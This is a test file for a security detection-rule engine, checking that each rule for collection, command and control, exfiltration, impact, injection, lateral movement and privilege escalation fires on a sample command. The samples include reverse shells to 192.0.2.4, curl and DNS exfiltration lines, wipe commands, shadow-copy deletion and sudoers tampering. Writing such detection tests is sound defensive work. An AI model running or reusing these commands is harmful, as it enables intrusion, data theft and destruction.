import { collectionRules } from './collection.rules.js';
import { commandAndControlRules } from './command-and-control.rules.js';
import { exfiltrationRules } from './exfiltration.rules.js';
import { impactRules } from './impact.rules.js';
import { injectionRules } from './injection.rules.js';
import { lateralMovementRules } from './lateral-movement.rules.js';
import { privilegeEscalationRules } from './privilege-escalation.rules.js';
import { readExamples, rulesMatching } from './matching-rules.js';

/** One statement or more for every rule; harmless, made for this table. */
const examples = readExamples(String.raw`
screen-capture: screencapture -x a.png
screen-capture: $g.CopyFromScreen(0,0,0,0,$s)
clipboard: Get-Clipboard
clipboard: pbpaste
audio-capture: arecord -d 5 a.wav
microphone-consent: reg add x\ConsentStore\microphone\y
video-capture: ffmpeg -i /dev/video0 a.mp4
browser-session: tell application "Safari" to do JavaScript "1"
email-local: copy a.pst b
email-remote: New-MailboxExportRequest -Mailbox x -FilePath y
email-forward: Set-Mailbox bob -ForwardingSmtpAddress a@example.test
automated-collection: for /R c: %f in (*.docx) do copy %f c:\temp\x
collected-lists: sc query state= all > %TEMP%\x.txt
local-data: find / -name "*.xlsx"
share-data: copy \\server1\C$\x.txt c:\y
removable-data: cp -r /Volumes/x /tmp
archive-utility: rar a -r x.rar *.docx
archive-utility: tar -czf x.tgz /home
archive-encrypt: gpg -c x
archive-library: python3 -c "import zipfile"
archive-custom: dir C:\x -Recurse | Compress-Archive -DestinationPath y
staging: mkdir C:\Temp\loot
staging-remote: copy x \\server1\c\staging
repository-data: git clone --mirror x
database-data: mysqldump -u root x
code-repository-data: gh repo clone x
cloud-storage-data: aws s3 sync s3://x .
network-device-config: show running-config
snmp: snmpwalk -c public 192.0.2.4
mitm-arp: mitmproxy -p 8080
input-injection: xdotool type x
sound-of-keys: read -s password
reverse-shell-bash: bash -i >& /dev/tcp/192.0.2.4/4444 0>&1
reverse-shell-netcat: nc 192.0.2.4 4444 -e /bin/sh
reverse-shell-script: python3 -c "import socket,subprocess;s=socket.socket();subprocess.call(['x'])"
netcat-connect: nc 192.0.2.4 4444
icmp-channel: ptunnel -p x
dns-channel: iodine -f x.example.test
dns-queries: for ($i=0; $i -lt 9; $i++) { Resolve-DnsName "$i.example.test" }
doh: curl "https://dns.google/resolve?name=x"
web-channel: Invoke-WebRequest http://example.test -UserAgent x
mail-channel: New-Object Net.Mail.SmtpClient('x')
file-transfer-channel: import ftplib; ftplib.FTP('x')
publish-channel: mosquitto_pub -h x -t y -m z
telnet-channel: telnet host.example.test 4444
web-service-channel: curl https://api.telegram.org/botX/getUpdates
cloud-drive-channel: iex (irm https://graph.microsoft.com/v1.0/me/drive/root:/q/c.txt:/content); iex $c
renamed-rclone: C:\x\sync.exe --config C:\x\r.conf copy C:\x box:in
dcom-command: $m.Document.ActiveView.ExecuteShellCommand('cmd', $null, '/c ver', '7')
one-way-service: curl https://webhook.site/x
encoding-channel: $x = [Convert]::ToBase64String($b); Invoke-WebRequest http://example.test/$x
base64-encode: [Convert]::ToBase64String($b)
non-standard-encoding: base58_encode x
symmetric-channel: AES over socket
asymmetric-channel: openssl s_client -connect host.example.test:443
stego-channel: $p = $i.GetPixel(1,2)
remote-access-software: AnyDesk.exe --install x
tunnel-tools: ngrok tcp 3389
ssh-tunnel: ssh -N -R 8080:localhost:80 bob@host.example.test
port-proxy: netsh interface portproxy add v4tov4 listenport=1 connectport=2
proxy-settings: export http_proxy=http://192.0.2.4:8080
external-proxy: proxychains4 curl x
multi-hop-proxy: torsocks curl x
domain-fronting: curl -H "Host: a.example.test" https://b.example.test
non-standard-port: curl http://host.example.test:4444/
domain-generation: dga seed
fast-flux: curl http://x.duckdns.org
fallback-channel: curl http://a.example.test/x || curl http://b.example.test/x
attack-frameworks: msfvenom -p x
beacon-loop: while ($true) { Invoke-WebRequest http://example.test/x; Start-Sleep 5 }
proxy-relay: microsocks -p 1080
ingress-listener: $l = New-Object Net.HttpListener
web-server: python3 -m http.server 8000
hide-infrastructure: mullvad connect
curl-upload: curl --upload-file x http://example.test/
curl-post: curl -X POST -d a=b http://example.test/
powershell-post: Invoke-WebRequest http://example.test -Method POST -Body $b
web-client-upload: $c.UploadFile('http://example.test','x')
bits-upload: Start-BitsTransfer -TransferType Upload -Source x
certreq-post: certreq -Post -config http://example.test x
cloud-upload: rclone copy C:\x remote:y
cloud-storage-upload: aws s3 cp x s3://y
web-service-upload: curl --upload-file x https://transfer.sh/x
text-storage: curl -d @x https://pastebin.com/api/api_post.php
code-repository: gh gist create x
webhook: curl -d x https://discord.com/api/webhooks/1/a
dns-exfiltration: base64 x | while read l; do dig $l.example.test; done
icmp-exfiltration: $ping.Send('192.0.2.4',1,$b)
ftp-upload: tftp 192.0.2.4 put x
smtp-exfiltration: Send-MailMessage -To a@example.test -Attachments x
ssh-exfiltration: tar czf - /home | ssh bob@host.example.test 'cat > x'
https-exfiltration: curl --upload-file x https://example.test/
https-post: wget --post-data="a=1" https://example.test/
script-upload: Invoke-WebRequest -Uri http://example.test -Method Put -InFile C:\x
rclone-ftp: rclone config create a ftp host ftp.example.test
symmetric-exfiltration: openssl enc -aes256 -in x | curl -d @- y
netcat-exfiltration: cat x | nc 192.0.2.4 4444
http-server-share: python3 -m http.server
automated-exfiltration: Get-ChildItem | foreach { $c.UploadFile('x',$_) }
traffic-duplication: iptables -t mangle -A PREROUTING -j TEE --gateway 192.0.2.4
size-limits: split -b 5M x
scheduled-transfer: echo "0 1 * * * rsync x y" | crontab -; rsync x; echo /etc/crontab rclone x
usb-exfiltration: cp x.zip /media/usb/
bluetooth: obexftp -b x -p y
cloud-account-transfer: aws ec2 modify-snapshot-attribute --snapshot-id x
shadow-copies-delete: vssadmin delete shadows /all /quiet
shadow-copies-delete: Get-WmiObject Win32_Shadowcopy | ForEach-Object { $_.Delete(); }
backup-delete: wbadmin delete catalog -quiet
recovery-off: bcdedit /set {default} recoveryenabled no
vss-service: net stop vss
snapshots-unix: tmutil disable
cloud-snapshots: aws ec2 delete-snapshot --snapshot-id x
encrypt-files-unix: openssl enc -aes-256-cbc -in a -out b
encrypt-files-windows: manage-bde -on C:
encrypt-loop: find /srv -type f | while read f; do openssl enc -aes256 -in $f; done
ransom-note: echo your files have been encrypted > x
delete-all-windows: del /f /s /q C:\*
wipe-windows: sdelete.exe -z C:
delete-all-unix: rm -rf / --no-preserve-root
overwrite-unix: dd if=x of=/srv/y
disk-wipe: dd if=/dev/zero of=/dev/sda
disk-structure-wipe: mkfs.ext4 /dev/sdb1
cloud-delete: aws s3 rb s3://x --force
lifecycle-delete: aws s3api put-bucket-lifecycle --bucket x
service-stop-windows: net stop spooler
process-kill-powershell: Stop-Process -Name x
service-stop-unix: systemctl stop example
shutdown: shutdown /r /t 0
account-removal-windows: net user bob /delete
password-change: net user bob Example1
account-removal-unix: userdel bob
cloud-account-removal: aws iam delete-user --user-name x
wallpaper: reg add "HKCU\Control Panel\Desktop" /v Wallpaper /d x.bmp
web-defacement: echo "hacked by x" > index.html
logon-text-unix: cp x /etc/motd
miner: xmrig -o stratum+tcp://pool.example.test:3333
cpu-burn: yes > /dev/null
bandwidth-use: honeygain -x
network-flood: hping3 --flood 192.0.2.4
fork-bomb: :(){ :|:& };:
data-manipulation: mysql -e "UPDATE users SET a=1"
firmware-corruption: flashrom -E
exclusive-control: pkill -f kinsing
mail-flood: 1..500 | % { Send-MailMessage -To a@example.test }
cloud-instance-create: aws ec2 run-instances --image-id x
cloud-snapshot-create: aws ec2 create-snapshot --volume-id x
cloud-instance-delete: aws ec2 terminate-instances --instance-ids x
cloud-configuration: aws ec2 modify-instance-attribute --x
cloud-hierarchy: aws organizations leave-organization
remote-thread: [K]::CreateRemoteThread($h)
local-shellcode: [K]::VirtualAlloc(0,1,0x3000,0x40)
library-injection: Invoke-DllInjection -ProcessID 4
pe-injection: Invoke-ReflectivePEInjection
thread-hijack: SetThreadContext
queue-apc: QueueUserAPC
ptrace: PTRACE_ATTACH
proc-mem-write: dd if=x of=/proc/123/mem
extra-window-memory: SetWindowLongPtr
process-hollowing: NtUnmapViewOfSection
doppelganging: NtCreateTransaction
vdso-hijack: vdso hijack
list-planting: LVM_SORTITEMS
thread-local-storage: tls_callback
kernel-callback-table: KernelCallbackTable
shellcode-tools: Invoke-Shellcode
injection-tools: injector.exe 4
remote-desktop-start: mstsc.exe /v:server1
remote-desktop-enable: reg add x /v fDenyTSConnections /d 0
remote-desktop-hijack: tscon 2 /dest:rdp-tcp#1
admin-share: net use \\server1\C$ /user:x
admin-share-write: copy x \\server1\ADMIN$\x
dcom: [activator]::CreateInstance([type]::GetTypeFromProgID("MMC20.Application","192.0.2.4"))
ssh-connect: ssh bob@host.example.test
ssh-enable: systemctl enable ssh
vnc: x11vnc -display :0
winrm-enable: Enable-PSRemoting -Force
winrm-session: Invoke-Command -ComputerName server1 -ScriptBlock { 1 }
impacket: crackmapexec smb 192.0.2.4 -u a -p b
pass-the-hash: sekurlsa::pth /user:a
pass-the-ticket: kerberos::ptt x.kirbi
application-token: Connect-MgGraph -AccessToken $t
web-session-cookie: ESTSAUTHPERSISTENT=x
lateral-copy: copy x.exe \\server1\C$\Temp\x.exe
copy-to-share: robocopy D:\Data \\server1\backup /MIR
smb-over-quic: NET USE * \\server1\x /TRANSPORT:QUIC
copy-from-share: net share x$=C:\y
exploit-remote: zerologon x
removable-spread: if ($d.DriveType -eq 2) { 1 }
taint-shared-content: copy x.library-ms y
internal-phishing: $o = New-Object -ComObject Outlook.Application; $o.CreateItem(0)
phishing-attachment: Invoke-WebRequest http://example.test/x.xlsm -OutFile x.xlsm
default-accounts: curl -u admin:admin http://192.0.2.4
uac-registry: reg add HKCU\Software\Classes\ms-settings\shell\open\command /v DelegateExecute
uac-settings: reg add x /v EnableLUA /d 0
uac-notify: reg add x /v UACDisableNotify /d 1
uac-programs: fodhelper.exe
uac-schtasks: schtasks /run /tn \Microsoft\Windows\DiskCleanup\SilentCleanup /i
run-as-verb: Start-Process x -Verb RunAs
sudo-caching: echo "x ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers
sudo-escape: sudo -u#-1 id
setuid: chmod u+s x
elevated-prompt: osascript -e 'do shell script "x" with administrator privileges'
pkexec: pkexec x
cloud-elevation: gcloud x --impersonate-service-account=y
tcc: sqlite3 "x/TCC.db" .tables
exploit-windows: Invoke-Nightmare -NewUser x
potato: JuicyPotato.exe -l 1
always-install-elevated: reg query x /v AlwaysInstallElevated
powerup: Invoke-AllChecks
token-theft: Invoke-TokenManipulation
token-process: runas /user:bob cmd
make-token: runas /netonly /user:a b
parent-spoof: UpdateProcThreadAttribute
sid-history: sid::patch
group-policy-change: New-GPO -Name x
trust-change: Convert-MsolDomainToFederated -DomainName x
valid-account-use: x /user:EXAMPLE\bob
cloud-account-use: aws sts assume-role --role-arn x
setuid-su: bash -p
device-driver-exploit: sc create x binPath= C:\RTCore64.sys
`);
const rules = [...collectionRules, ...commandAndControlRules, ...exfiltrationRules, ...impactRules, ...injectionRules, ...lateralMovementRules, ...privilegeEscalationRules];

describe('rules of the later tactics', () => {
  it.each(rules.map((rule) => rule.id))('%s has an example that fires it', (id) => {
    const statements = examples.get(id) ?? [];
    expect(statements.length).toBeGreaterThan(0);
    for (const statement of statements) expect(rulesMatching(rules, statement).map((rule) => rule.id)).toContain(id);
  });

  it('has no examples for rules that are not there', () => {
    const ids = new Set(rules.map((rule) => rule.id));
    expect([...examples.keys()].filter((id) => !ids.has(id))).toEqual([]);
  });
});
